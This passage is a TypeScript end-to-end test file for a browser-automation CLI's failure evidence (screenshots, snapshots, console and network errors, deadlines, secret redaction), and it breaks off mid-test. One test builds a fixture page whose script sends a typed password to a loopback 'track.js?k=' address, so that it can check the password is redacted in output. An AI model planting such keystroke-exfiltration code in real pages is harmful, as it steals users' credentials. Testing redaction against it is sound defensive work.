// A failed call explains itself (issue 25, driver/runtime/evidence.ts): through the compiled CLI, on a
// real Chromium and on the Aside test double, against the fixture site on 127.0.0.1.
// Acceptance 1 (two tabs, a throwing handler, then a throw: two evidence blocks before the
// [error] line, and --json's `evidence`), 2 (a page hung in its own JavaScript: evidence
// skipped with a note, the call ends within its deadline plus grace) and 6 (an unhandled
// rejection and `throw 42` fail the call and say so), plus --no-evidence and --out.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { startFixtureServer, type FixtureServer } from './helpers/fixture-server.js';
import { ROOT, cliWith, startCli, tempHome } from './helpers/cli.js';
import { DEADLINE_GRACE_MS } from '../driver/deadline.js';
import { defuseSentinel } from '../driver/runtime/output.js';

const DOUBLES = join(ROOT, 'test', 'doubles');
let site: FixtureServer;
let home: string;
before(async () => {
  site = await startFixtureServer();
  home = tempHome('gstack-evidence-');
});
after(() => site.close());

const gstack = cliWith(() => ({ env: { GSTACK_HOME: home, GSTACK_SESSION_KEY: 'evidence-e2e' } }));
/** The Aside double on PATH, chosen with --engine aside. */
const aside = cliWith(() => ({
  env: {
    PATH: DOUBLES + delimiter + (process.env.PATH ?? ''),
    GSTACK_HOME: home,
    GSTACK_SESSION_KEY: 'evidence-e2e-aside',
    GSTACK_SKIP_ASIDE: undefined,
    ASIDE_DOUBLE_MODE: undefined,
    ASIDE_DOUBLE_HOME: mkdtempSync(join(tmpdir(), 'gstack-evidence-aside-')),
  },
}));

const TWO_TABS = () => `
  const a = await openTab(${JSON.stringify(site.url + 'evidence.html')});
  const b = await openTab(${JSON.stringify(site.url + 'index.html')});
  await a.getByRole("button", { name: "Break" }).click();
  await a.getByRole("button", { name: "Load missing" }).click();
  await a.waitForFunction(() => document.getElementById("out").textContent === "fetched");
  throw new Error("the export never started");`;

interface Block {
  header: string;
  lines: string[];
}
/** The EVIDENCE_START … EVIDENCE_END blocks of an output, in order. */
function blocks(lines: string[]): Block[] {
  const out: Block[] = [];
  let cur: Block | undefined;
  for (const l of lines) {
    if (l.startsWith('EVIDENCE_START')) out.push((cur = { header: l, lines: [] }));
    else if (l === 'EVIDENCE_END') cur = undefined;
    else cur?.lines.push(l);
  }
  return out;
}
const field = (b: Block, label: string) => b.lines.find((l) => l.startsWith(label));

test('chromium: two open tabs, a throwing click handler, then a throw: two evidence blocks before [error]', async () => {
  const out = mkdtempSync(join(tmpdir(), 'gstack-evidence-out-'));
  const r = await gstack(['run', TWO_TABS(), '--out', out]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(r.lines.at(-1)!, /^\[error\] the export never started$/);
  const bs = blocks(r.lines);
  assert.deepEqual(bs.map((b) => b.header), ['EVIDENCE_START tab 1 of 2', 'EVIDENCE_START tab 2 of 2']);
  // Every evidence line comes before the [error] line.
  assert.ok(r.lines.lastIndexOf('EVIDENCE_END') < r.lines.length - 1);
  const [a, b] = bs;
  assert.equal(field(a, 'URL='), `URL=${site.url}evidence.html`);
  assert.equal(field(a, 'TITLE='), 'TITLE=Evidence page');
  assert.equal(field(b, 'TITLE='), 'TITLE=Fixture Home');
  const consoleErrors = JSON.parse(field(a, 'CONSOLE_ERRORS=')!.slice('CONSOLE_ERRORS='.length)) as string[];
  assert.ok(consoleErrors.some((e) => /^uncaught: TypeError: .*explode/.test(e)), field(a, 'CONSOLE_ERRORS='));
  const net = JSON.parse(field(a, 'NETWORK_ERRORS=')!.slice('NETWORK_ERRORS='.length)) as Array<{ url: string; status: number }>;
  assert.deepEqual(net.map((n) => [n.url, n.status]), [[`${site.url}status?code=404`, 404]]);
  assert.equal(field(b, 'CONSOLE_ERRORS='), 'CONSOLE_ERRORS=[]');
  // What can be clicked, by role and name: what an agent took a snapshot for after a locator
  // failed (trial agents t23, t26), indented between SNAPSHOT_START and SNAPSHOT_END.
  const snap = a.lines.slice(a.lines.indexOf('SNAPSHOT_START') + 1, a.lines.indexOf('SNAPSHOT_END'));
  assert.ok(a.lines.includes('SNAPSHOT_START') && snap.length > 0, a.lines.join('\n'));
  assert.ok(snap.some((l) => /^ {2}- button "Hang" \[ref=e\d+\]/.test(l)), snap.join('\n'));
  assert.ok(snap.every((l) => l.startsWith('  ')), 'each line indented: no page text starts a line');
  // The screenshots are real PNGs, copied by --out, and named once (not again at the end).
  for (const [i, blk] of bs.entries()) {
    const shot = field(blk, 'ARTIFACT ')!.slice('ARTIFACT '.length);
    assert.equal(shot, join(out, `evidence-tab-${i + 1}.png`));
    assert.ok(existsSync(shot));
    assert.equal(readFileSync(shot).subarray(1, 4).toString(), 'PNG');
    // A copy in the user's folder has the mode the umask gives, not pwd's owner-only 0600.
    assert.equal(statSync(shot).mode & 0o777, 0o666 & ~process.umask());
    assert.equal(r.lines.filter((l) => l === `ARTIFACT ${shot}`).length, 1);
  }
  // The next failed call with the same --out keeps the first call's evidence (trial V19: each
  // failure replaced it); a file the script names itself is still the script's to replace.
  writeFileSync(join(out, 'mine.txt'), 'old');
  const again = await gstack(['run', `await fs.writeFile(path.join(pwd, "mine.txt"), "new"); const pg = await openTab(${JSON.stringify(site.url + 'index.html')}); throw new Error("again");`, '--out', out]);
  assert.equal(again.code, 1, again.stdout + again.stderr);
  const [c] = blocks(again.lines);
  assert.equal(field(c, 'ARTIFACT '), `ARTIFACT ${join(out, 'evidence-tab-1-2.png')}`, again.stdout);
  assert.equal(readFileSync(join(out, 'evidence-tab-1-2.png')).subarray(1, 4).toString(), 'PNG');
  assert.ok(existsSync(join(out, 'evidence-tab-1.png')) && existsSync(join(out, 'evidence-tab-2.png')), 'the first call\'s evidence is still there');
  assert.equal(readFileSync(join(out, 'mine.txt'), 'utf8'), 'new');
});

test('chromium: --json carries the evidence; --no-evidence turns it off', async () => {
  const r = await gstack(['run', TWO_TABS(), '--json']);
  assert.equal(r.code, 1);
  const res = JSON.parse(r.stdout) as { error: string; evidence: Array<{ tab: number; url: string; title: string; screenshot: string; consoleErrors: string[] }>; lines: string[] };
  assert.equal(res.error, 'the export never started');
  assert.match((res.evidence[0] as { snapshot?: string }).snapshot ?? '', /- button "Break"/);
  assert.deepEqual(res.evidence.map((e) => [e.tab, e.url, e.title]), [
    [1, `${site.url}evidence.html`, 'Evidence page'],
    [2, `${site.url}index.html`, 'Fixture Home'],
  ]);
  assert.ok(res.evidence[0].consoleErrors.some((e) => /explode/.test(e)));
  assert.ok(existsSync(res.evidence[0].screenshot));
  assert.match(res.lines.at(-1)!, /^\[error\] /);

  const off = await gstack(['run', TWO_TABS(), '--no-evidence', '--json']);
  const resOff = JSON.parse(off.stdout) as { evidence: unknown; lines: string[] };
  assert.equal(resOff.evidence, null);
  assert.ok(!resOff.lines.some((l) => l.startsWith('EVIDENCE')), resOff.lines.join('\n'));
});

test('chromium: a call that ends without the sentinel also gets evidence; a success gets none', async () => {
  const open = `const pg = await openTab(${JSON.stringify(site.url + 'index.html')});`;
  const noSentinel = await gstack(['run', `${open} console.log("done?");`]);
  assert.equal(noSentinel.code, 1);
  assert.deepEqual(blocks(noSentinel.lines).map((b) => b.header), ['EVIDENCE_START tab 1 of 1']);
  const ok = await gstack(['run', `${open} console.log("GSTACK_STEP_OK");`]);
  assert.equal(ok.code, 0);
  assert.ok(!ok.lines.some((l) => l.startsWith('EVIDENCE')));
  // Pass 30 (C30): an --in file named like the evidence screenshot was replaced by it, and the
  // ARTIFACT line named a file --out did not copy. The evidence takes a free name.
  const dir = mkdtempSync(join(tmpdir(), 'gstack-evidence-in-'));
  writeFileSync(join(dir, 'evidence-tab-1.png'), 'the user\'s own file');
  const taken = await gstack(['run', `${open} console.log("PWD=" + pwd); throw new Error("stop");`, '--in', 'evidence-tab-1.png'], { cwd: dir });
  assert.equal(taken.code, 1);
  const pwd = taken.lines.find((l) => l.startsWith('PWD='))!.slice(4);
  assert.equal(readFileSync(join(pwd, 'evidence-tab-1.png'), 'utf8'), 'the user\'s own file');
  assert.ok(taken.lines.includes(`ARTIFACT ${join(pwd, 'evidence-tab-1-2.png')}`), taken.stdout);
  assert.equal(readFileSync(join(pwd, 'evidence-tab-1-2.png')).subarray(1, 4).toString(), 'PNG');
});

test('chromium: a page stuck in its own endless loop: evidence skipped with a note, the call ends by its deadline', async () => {
  const timeout = 3000;
  const r = await gstack(['run', `
    const pg = await openTab(${JSON.stringify(site.url + 'evidence.html')});
    await pg.getByRole("button", { name: "Hang" }).click();
    // The click queued the hang's 0 ms timer; this evaluation settles on a later timer, so the
    // page is always stuck before it could answer (a plain evaluate could win the race).
    await pg.evaluate(() => new Promise((r) => setTimeout(r, 50)));
    console.log("GSTACK_STEP_OK");`, '--timeout', String(timeout)]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(r.lines.at(-1)!, /^\[error\] The script did not finish within 3000 ms/);
  // It names the Playwright call the script still waited in (trial V5).
  assert.match(r.lines.at(-1)!, /; its browser was stopped and starts afresh on the next call\. It was waiting in (?:locator\.click on getByRole\('button', \{ name: 'Hang' \}\)|page\.evaluate) \(line (?:3|6), waiting \d+(\.\d)? s\)\. /);
  // A long sleep is named too, with its line (trial V12: "it does not say which line was running").
  // (No tab, and time for the browser the last call stopped to start again: a deadline that
  // ended the call inside openTab would name openTab instead.)
  const slept = await gstack(['run', '// a long wait\nawait sleep(30000);\nconsole.log("GSTACK_STEP_OK");', '--timeout', '6000']);
  assert.equal(slept.code, 1);
  assert.match(slept.lines.at(-1)!, /It was waiting in sleep\(30000\) \(line 2, waiting \d+(\.\d)? s\)\./);
  // A tab that never loaded is named by its origin only: its path or query may hold a token the
  // script kept out of its output (a sign-in link from an email).
  const slow = await gstack(['run', `// a sign-in link\nconst pg = await openTab(${JSON.stringify(site.url + 'slow?ms=20000&token=tok-9f8e7d')});\nconsole.log("GSTACK_STEP_OK");`, '--timeout', '6000', '--no-evidence']);
  assert.equal(slow.code, 1);
  assert.match(slow.lines.at(-1)!, new RegExp(`It was waiting in openTab\\("${new URL(site.url).origin.replace(/[.]/g, '\\.')}/…"\\) \\(line 2, waiting`));
  assert.doesNotMatch(slow.stdout + slow.stderr, /tok-9f8e7d/);
  const [b] = blocks(r.lines);
  // Its fields could not be read, so only what cannot hold one is shown: the URL's origin
  // (docs/SECURITY.md; test/security-page.e2e.test.ts 3j).
  assert.equal(field(b, 'URL='), `URL=${new URL(site.url).origin}/…`);
  assert.match(field(b, 'EVIDENCE_SKIPPED ')!, /did not answer within \d+ ms \(busy in its own JavaScript/);
  assert.equal(field(b, 'ARTIFACT '), undefined);
  assert.ok(!b.lines.includes('SNAPSHOT_START'), 'no snapshot of a page that did not answer');
  // Spawn, host start and browser launch come on top of the script's deadline; the call's own
  // end (evidence included) must fit the grace the client gives it.
  const started = r.startedAt;
  assert.ok(r.endedAt - started < timeout + DEADLINE_GRACE_MS + 6000, `took ${r.endedAt - started} ms`);
});

test('chromium: an unhandled rejection fails the call and names it; throw 42 says it was not an Error', async () => {
  const late = await gstack(['run', 'Promise.reject(new Error("late")); console.log("GSTACK_STEP_OK");']);
  assert.equal(late.code, 1, late.stdout);
  assert.match(late.lines.at(-1)!, /^\[error\] Unhandled promise rejection in the script: Error: late\./);

  const inAsync = await gstack(['run', '(async () => { await sleep(10); throw new Error("late in a task"); })(); await sleep(200); console.log("GSTACK_STEP_OK");']);
  assert.equal(inAsync.code, 1);
  assert.match(inAsync.lines.at(-1)!, /Unhandled promise rejection in the script: Error: late in a task/);

  const n = await gstack(['run', 'throw 42']);
  assert.equal(n.code, 1);
  assert.match(n.lines.at(-1)!, /^\[error\] the script threw a non-Error value: 42\./);

  // A handled rejection is nobody's business.
  const handled = await gstack(['run', 'await Promise.reject(new Error("x")).catch(() => undefined); console.log("GSTACK_STEP_OK");']);
  assert.equal(handled.code, 0, handled.stdout);
});

test('chromium: a throw from a listener the script gave Playwright fails the call and names it', async () => {
  const r = await gstack(['run', `
    const pg = await openTab(${JSON.stringify(site.url + 'evidence.html')});
    pg.on("console", () => { throw new Error("listener exploded"); });
    await pg.evaluate(() => console.log("hello"));
    await sleep(300);
    console.log("GSTACK_STEP_OK");`]);
  assert.equal(r.code, 1, r.stdout);
  assert.match(r.lines.at(-1)!, /^\[error\] Uncaught exception in a callback the script gave Playwright .*: Error: listener exploded\./);
  // The session's browser is still fine for the next call.
  const next = await gstack(['run', 'console.log("GSTACK_STEP_OK")']);
  assert.equal(next.code, 0, next.stdout + next.stderr);
});

test('aside double: a throw after two tabs: two evidence blocks (URL, title, screenshot, console error) before [error]', async () => {
  const out = mkdtempSync(join(tmpdir(), 'gstack-evidence-aside-out-'));
  const r = await aside(['run', TWO_TABS(), '--engine', 'aside', '--out', out]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(r.lines.at(-1)!, /^\[error\] The script threw on Aside: Error: the export never started$/);
  assert.ok(!r.stdout.includes('__GSTACK_EVIDENCE_'), 'the wrapper line is the runner\'s, not output');
  const bs = blocks(r.lines);
  assert.deepEqual(bs.map((b) => b.header), ['EVIDENCE_START tab 1 of 2', 'EVIDENCE_START tab 2 of 2']);
  assert.equal(field(bs[0], 'TITLE='), 'TITLE=Evidence page');
  assert.equal(field(bs[1], 'URL='), `URL=${site.url}index.html`);
  assert.ok(/explode/.test(field(bs[0], 'CONSOLE_ERRORS=')!), field(bs[0], 'CONSOLE_ERRORS='));
  assert.ok(/status\?code=404/.test(field(bs[0], 'NETWORK_ERRORS=')!), field(bs[0], 'NETWORK_ERRORS='));
  const shot = field(bs[0], 'ARTIFACT ')!.slice('ARTIFACT '.length);
  assert.equal(shot, join(out, 'evidence-tab-1.png'));
  assert.equal(readFileSync(shot).subarray(1, 4).toString(), 'PNG');

  const json = await aside(['run', TWO_TABS(), '--engine', 'aside', '--json']);
  const res = JSON.parse(json.stdout) as { evidence: Array<{ title: string }> };
  assert.deepEqual(res.evidence.map((e) => e.title), ['Evidence page', 'Fixture Home']);
});

test('aside double: throw 42 says it was not an Error; a passing script is unchanged by the wrapper', async () => {
  const n = await aside(['run', 'throw 42', '--engine', 'aside']);
  assert.equal(n.code, 1);
  assert.match(n.lines.at(-1)!, /the script threw a non-Error value: 42$/);
  const ok = await aside(['run', `const pg = await openTab(${JSON.stringify(site.url + 'index.html')}); console.log("TITLE=" + await pg.title()); await closeTab(pg); console.log("GSTACK_STEP_OK");`, '--engine', 'aside']);
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  assert.deepEqual(ok.lines, ['TITLE=Fixture Home', 'GSTACK_STEP_OK']);
});

test('chromium: a dialog the script left unanswered is in the evidence, then dismissed for the screenshot', async () => {
  const r = await gstack(['run', `
    const pg = await openTab(${JSON.stringify(site.url + 'dialogs.html')});
    pg.on("dialog", () => {});
    await pg.evaluate(() => void setTimeout(() => { document.title = "confirm=" + confirm("Delete?"); }, 0));
    await sleep(300);
    throw new Error("left a confirm open");`]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  const [b] = blocks(r.lines);
  assert.equal(field(b, 'DIALOG '), 'DIALOG confirm "Delete?" (open when the call failed; dismissed for the screenshot)');
  assert.equal(field(b, 'TITLE='), 'TITLE=confirm=false');
  assert.ok(field(b, 'ARTIFACT '));
});

test('chromium: an interrupted call (SIGINT) takes its evidence before its tabs close', async () => {
  const call = startCli(['run', `
    const pg = await openTab(${JSON.stringify(site.url + 'evidence.html')});
    console.log("OPENED");
    await sleep(60000);
    console.log("GSTACK_STEP_OK");`], { env: { GSTACK_HOME: home, GSTACK_SESSION_KEY: 'evidence-e2e' } });
  await call.waitFor(/OPENED/, 60_000);
  process.kill(-call.pid, 'SIGINT');
  const r = await call.done;
  assert.notEqual(r.code, 0, r.stdout + r.stderr);
  assert.match(r.lines.at(-1)!, /^\[error\] The call was interrupted/);
  const [b] = blocks(r.lines);
  assert.equal(field(b, 'TITLE='), 'TITLE=Evidence page');
  assert.ok(field(b, 'ARTIFACT '), r.stdout);
});

test('chromium: a tab the script closed is not in the evidence', async () => {
  const r = await gstack(['run', `
    const a = await openTab(${JSON.stringify(site.url + 'index.html')});
    const b = await openTab(${JSON.stringify(site.url + 'evidence.html')});
    await closeTab(a);
    throw new Error("after closing one");`]);
  assert.equal(r.code, 1);
  const bs = blocks(r.lines);
  assert.deepEqual(bs.map((b) => b.header), ['EVIDENCE_START tab 1 of 1']);
  assert.equal(field(bs[0], 'TITLE='), 'TITLE=Evidence page');
  assert.equal(field(bs[0], 'EVIDENCE_SKIPPED '), undefined);
});

/** A loopback port nothing listens on: a connection is refused, as an unreachable CDN's would be
 * (port 9 would not do: Chrome refuses it itself, ERR_UNSAFE_PORT, which is no missing answer). */
async function closedPort(): Promise<number> {
  const { createServer } = await import('node:net');
  const probe = createServer().listen(0, '127.0.0.1');
  await new Promise((r) => probe.once('listening', r));
  const port = (probe.address() as { port: number }).port;
  await new Promise((r) => probe.close(r));
  return port;
}

test('chromium: a page whose script could not load: the [error] line says so and names pg.route, after the locator\'s own hint', async () => {
  // The page's library never loads (refused), and its own code then throws.
  const port = await closedPort();
  const script = `const pg = await openTab();
await pg.setContent('<script src="http://127.0.0.1:${port}/lib.js"></script><script>Lib.start()</script><p>app</p>');
await pg.click("#start", { timeout: 500 });
console.log("GSTACK_STEP_OK");`;
  const r = await gstack(['run', script]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  const error = r.lines.at(-1)!;
  assert.match(error, /^\[error\] .*#start.* The page itself failed too \(a script request with no answer in NETWORK_ERRORS=, a ReferenceError in CONSOLE_ERRORS= above\)/);
  assert.match(error, /pg\.route before goto/);
  // Chrome's "Failed to load resource" names no URL; the evidence adds the one it was about.
  const consoleErrors = field(blocks(r.lines)[0], 'CONSOLE_ERRORS=') ?? '';
  assert.match(consoleErrors, new RegExp(String.raw`Failed to load resource: net::ERR_[A-Z_]+ \(http:\/\/127\.0\.0\.1:${port}\/lib\.js\)`), r.stdout);
});

test('chromium: an offline app\'s many loads from one other host fold into one entry, and the page\'s own 404 stays in sight (trial V10)', async () => {
  // Port 9 fails on loopback (Chrome refuses it, ERR_UNSAFE_PORT), as an unreachable CDN does
  // offline: 14 stylesheets and images from it, then the page's own request for a missing item.
  const refused = Array.from({ length: 12 }, (_, i) => `<link rel="stylesheet" href="http://127.0.0.1:9/font-${i}.css">`).join('') + '<img src="http://127.0.0.1:9/a.png"><img src="http://127.0.0.1:9/b.png">';
  site.setPage('/offline.html', `<title>Offline</title>${refused}<p>app</p><script>fetch("/api/items/404-me")</script>`);
  const r = await gstack(['run', `const pg = await openTab(${JSON.stringify(site.url + 'offline.html')}); await pg.waitForLoadState("networkidle"); throw new Error("stop");`]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  const net = JSON.parse(field(blocks(r.lines)[0], 'NETWORK_ERRORS=')!.slice('NETWORK_ERRORS='.length)) as Array<{ url: string; type?: string; status?: number; moreFromSameOrigin?: number }>;
  const sheets = net.filter((n) => n.type === 'stylesheet');
  assert.equal(sheets.length, 1, r.stdout);
  assert.equal(sheets[0].moreFromSameOrigin, 11);
  assert.equal(net.filter((n) => n.type === 'image').length, 1);
  assert.ok(net.some((n) => n.status === 404 && n.url.endsWith('/api/items/404-me')), r.stdout);
});

test('chromium: a call that passed while a page\'s scripts got no answer says so on stderr, once (trials V11, V13: a sign-up popup from a CDN, offline)', async () => {
  // A port nothing listens on: the connection is refused, as an unreachable CDN's would be.
  const port = await closedPort();
  const r = await gstack(['run', `const pg = await openTab();
await pg.setContent('<script src="http://127.0.0.1:${port}/portal.min.js"></script><link rel="stylesheet" href="http://127.0.0.1:${port}/font.css"><p>app</p>');
await closeTab(pg);
console.log("GSTACK_STEP_OK");`]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  const notes = r.stderr.split('\n').filter((l) => l.includes('got no answer'));
  assert.deepEqual(notes, [`gstack: a script the page asked for got no answer (http://127.0.0.1:${port}/portal.min.js): what it draws (a popup, a widget) is missing, and actions on it do nothing. If the task needs it, serve it with pg.route before goto (the browse reference, "A page whose third-party scripts cannot load").`]);
  const quiet = await gstack(['run', `const pg = await openTab(); await pg.setContent('<link rel="stylesheet" href="http://127.0.0.1:${port}/font.css"><p>app</p>'); console.log("GSTACK_STEP_OK");`]);
  assert.equal(quiet.code, 0);
  assert.doesNotMatch(quiet.stderr, /got no answer/, 'a stylesheet is not a script');
});

test('chromium: a call that passed while the server answered a page\'s own script 404 says so on stderr (trial V28: a web UI whose bundle 404s drew nothing)', async () => {
  site.setPage('/broken-build.html', '<title>Registry</title><div id="root"></div><script src="/static/main.4b1d.js"></script><img src="/static/logo.png">');
  const r = await gstack(['run', `const pg = await openTab(${JSON.stringify(site.url + 'broken-build.html')});
console.log("ROOT=" + await pg.locator("#root").innerHTML());
console.log("GSTACK_STEP_OK");`]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  const notes = r.stderr.split('\n').filter((l) => l.includes('answered a script'));
  assert.deepEqual(notes, [`gstack: the server answered a script of the page with an error (404 ${site.url}static/main.4b1d.js): what it draws is missing (an app may draw nothing at all), and actions on it do nothing. Check the address and the app's server (a build whose HTML names files it does not serve); to go on meanwhile, answer it with pg.route before goto (the browse reference, "A page whose third-party scripts cannot load").`]);
  assert.doesNotMatch(r.stderr, /logo\.png/, 'an image is not a script');
});

test('chromium: a page that puts a typed password into the address of a script that gets no answer: the stderr notice names it cut', async () => {
  // The attack: the page reads what the script typed into its password field and asks for a
  // script whose address carries it, from a host that never answers; the notice quotes addresses.
  const port = await closedPort();
  const pw = 'Tr4ck-pw-Qm82xZ';
  const page = `<input type="password" id="p"><script>document.getElementById("p").addEventListener("input", (e) => { const s = document.createElement("script"); s.src = "http://127.0.0.1:${port}/track.js?k=" + e.target.value; document.head.append(s); });</script>`;
  // The script types the test password from its params, as an agent's sign-in does.
  const typeIn = (password: string) => gstack(['run', `const pg = await openTab();
await pg.setContent(${JSON.stringify(page)});
await pg.locator("#p").fill(params.password);
await sleep(500);
console.log("GSTACK_STEP_OK");`, '--params', JSON.stringify({ password })]);
  const r = await typeIn(pw);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  const notes = r.stderr.split('\n').filter((l) => l.includes('got no answer'));
  assert.equal(notes.length, 1, r.stderr);
  assert.match(notes[0], new RegExp(`\\(http://127\\.0\\.0\\.1:${port}/track\\.js\\?k=\\[redacted\\]`), notes[0]);
  assert.ok(!(r.stdout + r.stderr).includes(pw), `the password reached output\n${r.stdout}${r.stderr}`);
  // A password the address spells %-encoded (a space, an é): the notice quotes it encoded, still cut.
  const spaced = 'Tr4ck pw é-Qm82';
  const encoded = await typeIn(spaced);
  assert.equal(encoded.code, 0, encoded.stdout + encoded.stderr);
  const out = encoded.stdout + encoded.stderr;
  assert.match(out, /got no answer \(http:\/\/127\.0\.0\.1:\d+\/track\.js\?k=\[redacted\]/, out);
  for (const spelling of [spaced, encodeURI(spaced), encodeURIComponent(spaced), 'Qm82']) assert.ok(!out.includes(spelling), `${spelling} reached output\n${out}`);
});

test('chromium: with --no-evidence a tab at a sign-in page still gets the sign-in hint on the [error] line (trial V15)', async () => {
  site.setPage('/app/login', '<title>Sign in</title><form><label>Email <input name="email"></label><button>Sign in</button></form>');
  const script = `const pg = await openTab(${JSON.stringify(site.url + 'app/login')}); await pg.getByRole("button", { name: "Dashboard" }).click({ timeout: 300 });`;
  const r = await gstack(['run', script, '--no-evidence']);
  assert.equal(r.code, 1);
  assert.ok(!r.stdout.includes('EVIDENCE_START'));
  assert.match(r.lines.at(-1)!, /^\[error\] Element not found .* The page asks to sign in \(a 401\/403 answer, or a sign-in page's URL\): this session is not signed in there\./);
  const once = await gstack(['run', script, '--no-evidence', '--ephemeral']);
  assert.match(once.lines.at(-1)!, /an --ephemeral call starts signed out every time/);
});

test('chromium: a session key or an --out folder that holds a piece of a test password keeps its ARTIFACT paths whole (trial V17)', async () => {
  const r = await gstack(['run', `const pg = await openTab();
await pg.setContent('<input type="password">');
await pg.locator("input").fill(params.password);
await pg.screenshot({ path: path.join(pwd, "a-budget-shot.png") });
throw new Error("stop");`, '--session', 'v17-budget', '--params', '{"password":"s3cret-budget-pw"}']);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  const artifact = r.lines.find((l) => l.startsWith('ARTIFACT '))!;
  assert.match(artifact, /\/artifacts\/v17-budget-[0-9a-f]+\/.*evidence-tab-1\.png$/, artifact);
  assert.ok(existsSync(artifact.slice('ARTIFACT '.length)), 'a path that opens');
  assert.doesNotMatch(r.stdout, /s3cret/);
  // With --out, the folder the caller named stays whole too. (A file name that holds the piece is
  // refused when the script writes it: the name is the script's, and SECURITY.md says so.)
  const out = join(mkdtempSync(join(tmpdir(), 'gstack-budget-out-')), 'v17-budget-out');
  const copied = await gstack(['run', `const pg = await openTab();
await pg.setContent('<input type="password">');
await pg.locator("input").fill(params.password);
await pg.screenshot({ path: path.join(pwd, "shot.png") });
console.log("GSTACK_STEP_OK");`, '--session', 'v17-budget', '--params', '{"password":"s3cret-budget-pw"}', '--out', out]);
  assert.equal(copied.code, 0, copied.stdout + copied.stderr);
  assert.ok(copied.lines.includes(`ARTIFACT ${join(out, 'shot.png')}`), copied.stdout);
  // A file name that holds the piece is refused, and the refusal names it relative to pwd: the
  // artifact folder above it, named after the session key, is not printed cut.
  const named = await gstack(['run', `const pg = await openTab();
await pg.setContent('<input type="password">');
await pg.locator("input").fill(params.password);
await pg.screenshot({ path: path.join(pwd, "a-budget-shot.png") });
console.log("GSTACK_STEP_OK");`, '--session', 'v17-budget', '--params', '{"password":"s3cret-budget-pw"}', '--no-evidence']);
  assert.equal(named.code, 1, named.stdout + named.stderr);
  assert.match(named.lines.at(-1)!, /^\[error\] screenshot\(\{ path \}\) refused "a\[redacted\]shot\.png": the name holds the value of a secret field/, named.stdout);
  assert.doesNotMatch(named.stdout + named.stderr, /v17\[redacted\]|s3cret/);
});

test('chromium: a page whose snapshot does not finish in the evidence\'s time says so, instead of leaving the block out (trial V7)', async () => {
  // 5,000 rows of a button and a link (no fields: reading the secret fields stays quick): its
  // interactive snapshot takes seconds, past the evidence's 1.5 s in all. On a loaded machine the
  // page may still be drawing its rows when the evidence first asks it: that is said too.
  site.setPage('/huge.html', `<title>Huge</title><div id="g"></div><script>document.getElementById("g").innerHTML = Array.from({ length: 5000 }, (_, i) => '<div><button>Go ' + i + '</button> <a href="#r' + i + '">Row ' + i + '</a></div>').join("");</script>`);
  const r = await gstack(['run', `const pg = await openTab(${JSON.stringify(site.url + 'huge.html')}); throw new Error("stop");`]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  const [b] = blocks(r.lines);
  assert.ok(!b.lines.includes('SNAPSHOT_START'), 'no snapshot in the time left');
  assert.match(field(b, 'EVIDENCE_SKIPPED') ?? '', /^EVIDENCE_SKIPPED (?:no snapshot: it did not finish in the time left \(evidence is bounded to 1500 ms in all\)|no snapshot: the page's secret fields could not be read within 400 ms \(a busy or very large page\), so nothing that could hold one is shown|out of time .*|the page did not answer within 400 ms \(busy in its own JavaScript.*)/, r.stdout);
});

test('chromium: a page whose screenshot does not finish in the evidence\'s time still gets its snapshot (trial V19)', async () => {
  // Stacked backdrop blurs: drawing a frame takes seconds in software, while the page's own
  // JavaScript (its title, its accessibility tree) answers at once. The screenshot and the
  // snapshot share the time left: a slow screenshot no longer leaves the agent without either.
  const layers = Array.from({ length: 60 }, (_, i) => `<div class="l" style="transform:translateX(${i % 2}px)"></div>`).join('');
  site.setPage('/blurred.html', `<title>Blurred</title><style>div.l{position:fixed;inset:0;backdrop-filter:blur(40px) saturate(3);background:rgba(255,0,0,.01);pointer-events:none}</style><button>Export</button>${layers}`);
  const r = await gstack(['run', `const pg = await openTab(${JSON.stringify(site.url + 'blurred.html')}); await pg.getByRole("button", { name: "Export all" }).click({ timeout: 300 });`]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  const [b] = blocks(r.lines);
  assert.ok(b.lines.includes('SNAPSHOT_START') && b.lines.includes('  - button "Export" [ref=e2]'), r.stdout);
  // On a quiet fast machine the screenshot may make it in time; when it does not, it says so.
  const skipped = field(b, 'EVIDENCE_SKIPPED');
  if (skipped) assert.match(skipped, /^EVIDENCE_SKIPPED no screenshot: it did not finish in the time left \(evidence is bounded to 1500 ms in all\); take pg\.screenshot\(\) in the script for one$/);
  else assert.ok(b.lines.some((l) => /^ARTIFACT .*evidence-tab-1\.png$/.test(l)), r.stdout);
});

test('chromium: a failed call\'s evidence has the page\'s visible alerts and status messages, hidden ones left out, a seen password cut (trial V21)', async () => {
  // Actual Budget's "Too many requests" was only in the screenshot: the interactive snapshot
  // lists what can be clicked or filled, not an app's own word for what went wrong. A live
  // region that holds a table is the page kept up to date, not a notice (trial V34: Swagger UI's
  // documented responses read as a live "200 OK").
  const pw = 'Zebra-pass-9911';
  const r = await gstack(['run', `const pg = await openTab();
    await pg.setContent('<title>Login</title><input type=password id=pw aria-label=Password><div role="alert"><span>An unknown error occurred:</span> Too many requests, please try again later.</div><div role="status" hidden>hidden status</div><div aria-live="polite"><p role="status">Saved 3 items</p></div><div aria-live="polite"><table><tr><td>200</td><td>OK</td></tr></table></div>');
    await pg.locator("#pw").fill(${JSON.stringify(pw)});
    await pg.evaluate((p) => { const d = document.createElement("div"); d.setAttribute("role", "alert"); d.textContent = "Your password " + p + " is weak"; document.body.append(d); }, ${JSON.stringify(pw)});
    await pg.getByRole("button", { name: "Sign in" }).click({ timeout: 300 });`, '--json']);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  const result = JSON.parse(r.stdout) as { lines: string[]; evidence: Array<{ alerts?: string[] }> };
  const expected = ['An unknown error occurred: Too many requests, please try again later.', 'Saved 3 items', 'Your password [redacted] is weak'];
